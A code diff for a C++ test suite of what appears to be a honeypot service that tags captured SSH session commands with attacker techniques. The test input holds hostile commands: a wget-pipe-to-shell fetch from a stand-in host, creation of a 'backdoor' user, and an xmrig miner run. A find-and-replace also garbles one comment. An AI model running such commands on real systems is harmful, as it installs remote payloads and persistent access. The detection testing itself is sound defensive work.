@@ -19,8 +19,8 @@ namespace {
 
 using namespace decnet::testing;
 
-std::string line(int second, const std::string& msgid, const std::string& sd,
-                 const std::string& sid = "t1", const std::string& ip = "198.51.100.61") {
+std::string ttp_line(int second, const std::string& msgid, const std::string& sd,
+                     const std::string& sid = "t1", const std::string& ip = "198.51.100.61") {
   char ts[64];
   std::snprintf(ts, sizeof ts, "2026-05-02T06:10:%02d.000000+00:00", second);
   return std::string("<134>1 ") + ts + " decky-07 ssh - " + msgid + " [relay@55555 sid=\"" + sid +
@@ -30,24 +30,24 @@ std::string line(int second, const std::string& msgid, const std::string& sd,
 // A shell session from `ip` that runs `commands`, connect to disconnect.
 std::string session(const std::string& sid, const std::string& ip,
                     const std::vector<std::string>& commands) {
-  std::string stream = octet_frame(line(0, "connect", "", sid, ip));
+  std::string stream = octet_frame(ttp_line(0, "connect", "", sid, ip));
   int t = 1;
   for (const auto& c : commands) {
-    stream += octet_frame(line(t++, "command", "command=\"" + c + "\"", sid, ip));
+    stream += octet_frame(ttp_line(t++, "command", "command=\"" + c + "\"", sid, ip));
   }
-  return stream + octet_frame(line(t, "disconnect", "", sid, ip));
+  return stream + octet_frame(ttp_line(t, "disconnect", "", sid, ip));
 }
 
 TEST(ServeTtp, ASessionsCommandsBecomeTagsOfTheirTechniques) {
   ServeProcess serve;
   ASSERT_TRUE(serve.wait_ready()) << serve.output();
   std::string stream;
-  stream += octet_frame(line(0, "connect", ""));
-  stream += octet_frame(line(1, "command", "command=\"uname -a\""));
-  stream += octet_frame(line(2, "command", "command=\"wget http://x.example/x.sh -O- | sh\""));
-  stream += octet_frame(line(3, "command", "command=\"useradd -m -s /bin/bash backdoor\""));
-  stream += octet_frame(line(4, "command", "command=\"ls\""));
-  stream += octet_frame(line(5, "disconnect", ""));
+  stream += octet_frame(ttp_line(0, "connect", ""));
+  stream += octet_frame(ttp_line(1, "command", "command=\"uname -a\""));
+  stream += octet_frame(ttp_line(2, "command", "command=\"wget http://x.example/x.sh -O- | sh\""));
+  stream += octet_frame(ttp_line(3, "command", "command=\"useradd -m -s /bin/bash backdoor\""));
+  stream += octet_frame(ttp_line(4, "command", "command=\"ls\""));
+  stream += octet_frame(ttp_line(5, "disconnect", ""));
   TcpClient client(serve.tcp_port());
   ASSERT_TRUE(client.send(stream));
 
@@ -200,7 +200,7 @@ TEST(ServeTtp, RuleFilesAreReloadedWithoutARestart) {
   ASSERT_TRUE(client.send(session("s-miner", "198.51.100.70", {"./xmrig -o pool.example:3333"})));
   ASSERT_TRUE(wait_until([&] { return count("rule_id = 'R0200'") == 1; })) << serve.output();
 
-  // A broken file: refused with its name and line; the rules in use go on tagging.
+  // A broken file: refused with its name and ttp_line; the rules in use go on tagging.
   write_file("R0201.yaml", "rule_id: R0201\nrule_version: [\n");
   ASSERT_TRUE(wait_until([&] { return serve.output().find("R0201.yaml:") != std::string::npos; }))
       << serve.output();
